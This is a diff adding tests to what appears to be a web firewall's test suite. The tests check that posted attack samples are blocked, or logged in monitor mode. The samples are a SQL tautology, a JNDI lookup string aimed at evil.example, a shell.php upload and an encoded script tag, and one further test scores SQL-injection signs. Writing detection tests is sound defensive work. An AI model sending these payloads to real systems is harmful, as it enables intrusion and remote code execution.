@@ -167,6 +167,33 @@ def what_browsers_and_programs_send_passes_as_it_is(t, data):
         t.equal(request.body, data.partition(b"\r\n\r\n")[2], "the content that the origin got")
 
 
+ATTACKS = {"a form": (FORM, b"name=x%27+or+1%3D1", "sql.tautology"),
+           "JSON": (b"application/json", b'{"q": {"name": "${jn\\u0064i:ldap://evil.example/a}"}}', "java.lookup"),
+           "the name of a file": (MULTI, part(b'form-data; name="f"; filename="shell.php"', b"x") + b"--B--\r\n", "shell.uploaded"),
+           "XML": (b"text/xml", b"<a><b>&lt;script&gt;</b></a>", "xss.script-tag")}
+
+
+@test(each=ATTACKS)
+def rules_are_asked_about_values_in_content(t, row):
+    kind, content, rule = row
+    server = t.server()
+    data = post(kind, content)
+    _, line = t.refused(server, data, "rule")
+    t.equal(line.rule, rule, "rule")
+    watching = t.server({"site": {"shield": {"mode": "monitor"}}})
+    mark = watching.mark()
+    t.equal(t.answered(watching, data).body, content, "the content that the origin got")
+    line = watching.next_line(mark)
+    t.equal((line.rule, line.enforced), (rule, False), "the rule in the log")
+
+
+@test
+def signs_in_head_and_content_add_up(t):
+    server = t.server()
+    t.answered(server, post(FORM, b"q=version()"))
+    t.refused(server, post(FORM, b"q=version()", target=b"/?q=information_schema.tables"), "score")
+
+
 @test
 def a_byte_at_a_time_is_the_same(t):
     server = t.server()
